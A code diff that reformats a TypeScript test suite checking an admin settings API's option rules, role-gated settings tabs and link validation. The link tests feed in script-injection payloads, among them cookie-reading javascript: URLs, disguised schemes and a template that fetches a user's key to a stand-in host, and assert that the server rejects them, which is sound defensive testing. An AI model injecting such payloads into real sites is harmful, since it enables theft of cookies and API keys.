@@ -1,7 +1,7 @@
 // Option rules the super admin's settings tabs rely on: several keys saved at once and checked
 // together (payment after the server address), comma lists cleaned, and the model ratio reset.
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
-import { ApiSession, newUserSession, rootSession } from "../helpers/api-session.ts";
+import { type ApiSession, newUserSession, rootSession } from "../helpers/api-session.ts";
 import { startTestServer, type TestServer } from "../helpers/test-server.ts";
 import { createTestStore } from "../helpers/test-store.ts";
 
@@ -20,7 +20,10 @@ async function option(key: string): Promise<string> {
 
 describe("option rules", () => {
   test("payment keys wait for the server address, which may come in the same save", async () => {
-    expect((await root.put("/api/option/", { key: "EpayId", value: "1001" })).body).toEqual({ success: false, message: "请先填写服务器地址" });
+    expect((await root.put("/api/option/", { key: "EpayId", value: "1001" })).body).toEqual({
+      success: false,
+      message: "请先填写服务器地址",
+    });
     expect((await root.put("/api/option/", { key: "MinTopUp", value: "5" })).body.message).toBe("请先填写服务器地址");
     expect(await option("EpayId")).toBe("");
     // Clearing a payment key is always allowed.
@@ -74,7 +77,8 @@ describe("option rules", () => {
   test("the settings tabs other than personal, /redemption and /detail follow the roles", async () => {
     const admin = await newUserSession(server.url, "tabadmin");
     await server.store.query("update users set role = 10 where username = ?", "tabadmin");
-    const page = (session: ApiSession, path: string) => fetch(server.url + path, { headers: { cookie: session.cookie }, redirect: "manual" });
+    const page = (session: ApiSession, path: string) =>
+      fetch(server.url + path, { headers: { cookie: session.cookie }, redirect: "manual" });
     for (const tab of ["operation", "ratelimit", "model", "system", "other"]) {
       expect((await page(admin, `/setting?tab=${tab}`)).status).toBe(403);
       const rendered = await page(root, `/setting?tab=${tab}`);
@@ -92,7 +96,13 @@ describe("option rules", () => {
 describe("links rendered into pages (issue 15 §6)", () => {
   test("TopUpLink, Logo and the chat links take http(s) only, however the scheme is disguised", async () => {
     for (const key of ["TopUpLink", "Logo", "ChatLink", "ChatLink2"]) {
-      for (const value of ["javascript:alert(document.cookie)", " JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]) {
+      for (const value of [
+        "javascript:alert(document.cookie)",
+        " JavaScript:alert(1)",
+        "java\tscript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "vbscript:msgbox(1)",
+      ]) {
         expect({ key, value, body: (await root.put("/api/option/", { key, value })).body }).toEqual({
           key,
           value,
@@ -108,8 +118,14 @@ describe("links rendered into pages (issue 15 §6)", () => {
 
   test("Chats templates open a page or an app (the defaults' ama:// and opencat://), never script", async () => {
     const bad = JSON.stringify([{ Web: "https://chat.example.com/?key={key}" }, { Evil: "javascript:fetch('//x.example/'+'{key}')" }]);
-    expect((await root.put("/api/option/", { key: "Chats", value: bad })).body).toEqual({ success: false, message: "聊天链接 Evil 只能是 http(s) 链接或应用链接" });
-    const good = JSON.stringify([{ Web: "https://chat.example.com/?key={key}&url={address}" }, { AMA: "ama://set-api-key?server={address}&key={key}" }]);
+    expect((await root.put("/api/option/", { key: "Chats", value: bad })).body).toEqual({
+      success: false,
+      message: "聊天链接 Evil 只能是 http(s) 链接或应用链接",
+    });
+    const good = JSON.stringify([
+      { Web: "https://chat.example.com/?key={key}&url={address}" },
+      { AMA: "ama://set-api-key?server={address}&key={key}" },
+    ]);
     expect((await root.put("/api/option/", { key: "Chats", value: good })).body.success).toBe(true);
   });
 
@@ -118,7 +134,8 @@ describe("links rendered into pages (issue 15 §6)", () => {
     try {
       const first = await startTestServer({ store });
       await first.stop();
-      for (const key of ["TopUpLink", "Logo", "ChatLink"]) await store.query("update options set value = ? where key = ?", "javascript:alert(1)", key);
+      for (const key of ["TopUpLink", "Logo", "ChatLink"])
+        await store.query("update options set value = ? where key = ?", "javascript:alert(1)", key);
       await store.query("update options set value = ? where key = 'Chats'", JSON.stringify([{ Evil: "javascript:alert('{key}')" }]));
       const later = await startTestServer({ store });
       try {
